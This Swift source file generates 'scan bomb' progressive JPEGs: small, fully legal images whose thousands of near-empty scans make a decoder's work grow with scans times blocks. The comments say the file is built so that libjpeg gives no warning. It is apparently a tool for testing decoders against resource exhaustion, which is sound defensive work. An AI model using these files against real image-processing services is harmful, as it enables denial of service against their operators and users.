/// Progressive JPEGs with many scans ("scan bombs"), written byte by byte.
///
/// Every scan is valid and nearly empty: one interleaved DC scan, then AC scans
/// of one coefficient of one component each (`Ss = Se = k`), first at `Al = 13`
/// and then refined bit by bit down to `Al = 0` (successive approximation, so
/// libjpeg sees a legal progression and prints no warning). All AC coefficients
/// are zero and coded as end-of-band runs, a few bytes per scan, yet a decoder
/// still visits every block of the component in every scan: the cost grows with
/// `scans x blocks` while the file stays small.
///
///     let bomb = ScanBomb.jpeg(width: 1024, height: 1024, scans: 2000)   // about 32 KB
///
/// The image is a flat mid grey (YCbCr 4:4:4, every DC difference 0).
/// Uses the standard library only, so the same file also runs as a script.
enum ScanBomb {
    /// The most scans a legal file of this shape holds: 1 DC scan + 3 components
    /// x 63 coefficients x 14 approximation steps.
    static let maxScans = 1 + 3 * 63 * 14

    /// A `width x height` progressive JPEG with `scans` scans (1...``maxScans``).
    static func jpeg(width: Int, height: Int, scans: Int) -> [UInt8] {
        precondition((1...maxScans).contains(scans) && (1...65535).contains(width) && (1...65535).contains(height))
        let blocks = ((width + 7) / 8) * ((height + 7) / 8)
        var out: [UInt8] = [0xFF, 0xD8]
        // DQT: table 0, all ones.
        segment(0xDB, [0x00] + [UInt8](repeating: 1, count: 64), into: &out)
        // SOF2: 8-bit, three components with 1x1 sampling and quantisation table 0.
        segment(
            0xC2,
            [8] + be16(height) + be16(width) + [3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0], into: &out)
        // DHT: DC table 0 holds one code ("0" -> category 0); AC table 0 holds the
        // fifteen end-of-band run symbols EOB0...EOB14 (0x00, 0x10, ..., 0xE0), 4 bits each.
        var dht: [UInt8] = [0x00, 1] + [UInt8](repeating: 0, count: 15) + [0x00]
        dht += [0x10, 0, 0, 0, 15] + [UInt8](repeating: 0, count: 12) + (0..<15).map { UInt8($0 << 4) }
        segment(0xC4, dht, into: &out)
        // Scan 1: interleaved DC first scan, full precision, one "0" bit per block.
        segment(0xDA, [3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 0, 0x00], into: &out)
        var bits = BitWriter()
        for _ in 0..<(3 * blocks) { bits.write(0, count: 1) }
        out += bits.finish()
        // AC scans: component, coefficient, then Al = 13 (first) down to 0 (refinements).
        var written = 1
        scanning: for component in 1...3 {
            for k in 1...63 {
                for al in stride(from: 13, through: 0, by: -1) {
                    guard written < scans else { break scanning }
                    let ah = al == 13 ? 0 : al + 1
                    segment(0xDA, [1, UInt8(component), 0x00, UInt8(k), UInt8(k), UInt8(ah << 4 | al)], into: &out)
                    out += endOfBandRuns(blocks)
                    written += 1
                }
            }
        }
        out += [0xFF, 0xD9]
        return out
    }

    /// Entropy data that skips `blocks` blocks: EOBr symbols (code `r` in 4 bits)
    /// with `r` extra bits, runs of at most 32767.
    private static func endOfBandRuns(_ blocks: Int) -> [UInt8] {
        var bits = BitWriter()
        var remaining = blocks
        while remaining > 0 {
            let run = min(remaining, 32767)
            let r = Int.bitWidth - 1 - run.leadingZeroBitCount
            bits.write(r, count: 4)
            bits.write(run - (1 << r), count: r)
            remaining -= run
        }
        return bits.finish()
    }

    private static func be16(_ value: Int) -> [UInt8] { [UInt8(value >> 8), UInt8(value & 0xFF)] }

    private static func segment(_ marker: UInt8, _ payload: [UInt8], into out: inout [UInt8]) {
        out += [0xFF, marker] + be16(payload.count + 2) + payload
    }

    /// MSB-first bits with 0xFF byte stuffing, padded with 1 bits.
    private struct BitWriter {
        private var bytes: [UInt8] = []
        private var accumulator = 0
        private var pending = 0

        mutating func write(_ value: Int, count: Int) {
            for i in stride(from: count - 1, through: 0, by: -1) {
                accumulator = accumulator << 1 | (value >> i & 1)
                pending += 1
                if pending == 8 { flushByte() }
            }
        }

        mutating func finish() -> [UInt8] {
            while pending != 0 { write(1, count: 1) }
            return bytes
        }

        private mutating func flushByte() {
            let byte = UInt8(accumulator & 0xFF)
            bytes.append(byte)
            if byte == 0xFF { bytes.append(0x00) }
            accumulator = 0
            pending = 0
        }
    }
}
